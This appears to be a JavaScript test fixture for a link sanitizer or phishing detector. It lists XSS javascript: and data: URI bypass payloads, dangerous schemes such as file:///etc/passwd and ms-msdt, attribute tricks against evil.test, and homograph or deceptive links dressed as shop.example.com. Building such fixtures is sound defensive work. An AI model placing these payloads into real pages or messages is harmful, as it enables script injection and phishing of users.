/** Links that run, that leave the web, or that say something else than they do. */

const javascript = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  '\u0001javascript:hit()',
  'java\tscript:hit()',
  'java\nscript:hit()',
  'java\r\nscript:hit()',
  'javascript\n:hit()',
  'java\u0000script:hit()',
  'j&#97;vascript:hit()',
  'j&#x61vascript:hit()',
  '&#0000106avascript:hit()',
  'javascript&colon;hit()',
  'java&Tab;script:hit()',
  'java&NewLine;script:hit()',
  'javascript&#x3A;hit&lpar;&rpar;',
  'javascript:%68it()',
  'javascript://%0ahit()',
  'javascript://evil.test/%0ahit()',
  'javascript:/*--></title></style>*/hit()',
  'javascript:"<script>hit()</script>"',
  '\u00a0javascript:hit()',
  '\u2028javascript:hit()',
  '\ufeffjavascript:hit()',
  'feed:javascript:hit()',
  'view-source:javascript:hit()',
  'jar:javascript:hit()',
  'https:javascript:hit()',
  'livescript:hit()',
  'vbscript:hit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=hit() xmlns=http://www.w3.org/2000/svg>',
  'data:application/xhtml+xml,<script xmlns=http://www.w3.org/1999/xhtml>hit()</script>',
  'data:,hit()',
];

const sinks = [
  'a href',
  'area href',
  'form action',
  'button formaction',
  'iframe src',
  'svg><a xlink:href',
  'svg><a href',
  'math href',
  'math><maction actiontype=statusline xlink:href',
];

const running = javascript.flatMap((uri) =>
  sinks.map((sink) => `<${sink}="${uri.replaceAll('"', '&quot;')}">Press</a>`),
);

const others =
  'file:///etc/passwd ftp://evil.test/ sms:+15550100?body=x callto:evil xmpp:a@evil.test matrix:u/evil cid:a mid:a ' +
  'about:blank about:srcdoc blob:https://evil.test/1 filesystem:https://evil.test/x chrome://settings chrome-extension://x/ ' +
  'ms-msdt:/id ms-word:ofe|u|https://evil.test search-ms:query=x intent://evil.test#Intent;end market://details?id=x ' +
  'ws://evil.test/ wss://evil.test/ magnet:?xt=x irc://evil.test/ ssh://evil.test/ git://evil.test telnet://evil.test ' +
  'ldap://evil.test gopher://evil.test news:x nntp://evil.test/x skype:evil?call zoommtg://evil.test slack://open ' +
  'steam://run/1 vscode://file/x itms-services://?action=x facetime:evil webcal://evil.test/ bitcoin:evil geo:0,0 ' +
  'web+x:y urn:x:y resource://x moz-icon://x res://x mhtml:https://evil.test!x x:y //evil.test/ \\\\evil.test\\x /api/logout ' +
  'logout ./x ../x ?a=1 #top evil.test www.evil.test https: http:// https://user@evil.test/ https://shop.example:443@evil.test/';
const schemes = others.split(' ').map((uri) => `<a href="${uri}">Press</a>`);

const opener = [
  '<a href=https://evil.test/ target=_top>x</a><a href=https://evil.test/ target=_parent>y</a>',
  '<a href=https://evil.test/ target=_self rel=opener>x</a><a href=https://evil.test/ target=config>y</a>',
  '<a href=https://evil.test/ download=invoice.exe>x</a><a href=https://evil.test/ ping=https://evil.test/p>y</a>',
  '<a href=https://evil.test/ referrerpolicy=unsafe-url>x</a><a href=https://evil.test/ type=text/html hreflang=x>y</a>',
  '<a href=https://evil.test/ attributionsrc>x</a><a href=https://evil.test/><img src=https://evil.test/a></a>',
  '<a href="mailto:a@evil.test?bcc=b@evil.test&body=x&attach=/etc/passwd">x</a>',
  '<a href="mailto:a@evil.test,b@evil.test">x</a><a href="mailto:">y</a><a href="mailto:%0d%0aBcc:b@evil.test">z</a>',
  '<a href="tel:*%2306%23">x</a><a href="tel:javascript:hit()">y</a>',
];

/** Words that name a host, and an address that leads to another one. */
const named = [
  'shop.example.com',
  'https://shop.example.com',
  'https://shop.example.com/orders?id=1',
  'www.shop.example.com',
  'SHOP.EXAMPLE.COM',
  'Go to shop.example.com now',
  'shop.example.com.',
  'shop.example.com:443',
  '“shop.example.com”',
  'shop。example。com',
  'ｓｈｏｐ.example.com',
  'shop\u200b.example.com',
  'shop.exam\u00adple.com',
  'shop.\u202eexample.com',
  '\u202emoc.elpmaxe.pohs/shop.example.com',
  'https:// shop.example.com',
  '<b>shop</b>.example.com',
  'shop<!-- -->.example<wbr>.com',
  'https&#58;//shop.example.com/',
  'shop&period;example&period;com',
];
const real = [
  'https://evil.test/',
  'https://shop.example.com.evil.test/',
  'http://evil.test/shop.example.com/',
  'https://evil.test/?https://shop.example.com/',
  'https://EVIL.test#shop.example.com',
];
const lies = named.flatMap((words) => real.map((to) => `<a href="${to}">${words}</a>`));

const lookAlikes = [
  '<a href="https://аpple.example/">apple.example</a>',
  '<a href="https://xn--pple-43d.example/">Sign in</a>',
  '<a href="https://раураl.example/">раураl.example</a>',
  '<a href="https://shоp.example.com/">shop.example.com</a>',
  '<a href="https://shop.exаmple.com/">Press</a>',
  '<a href="https://ｅvil.test/">shop.example.com</a>',
  '<a href="https://evil。test/">shop.example.com</a>',
  '<a href="https://0x7f000001/">shop.example.com</a>',
  '<a href="https://2130706433/">shop.example.com</a>',
  '<a href="https://[::ffff:127.0.0.1]/">shop.example.com</a>',
  '<a href="mailto:a@evil.test">help@shop.example.com</a>',
  '<a href="mailto:a@evil.test">shop.example.com</a>',
  '<a href="tel:+19005550100">+1 800 555 0199</a>',
  '<a href="https://evil.test/">help@shop.example.com</a>',
  '<a href="https://evil.test/"><img alt="shop.example.com" src="https://evil.test/a.png">shop.example.com</a>',
  '<a href="https://evil.test/">shop.example.com</a><a href="https://evil.test/"> </a>',
];

export const links = { scheme: [...running, ...schemes, ...opener], lie: [...lies, ...lookAlikes] };
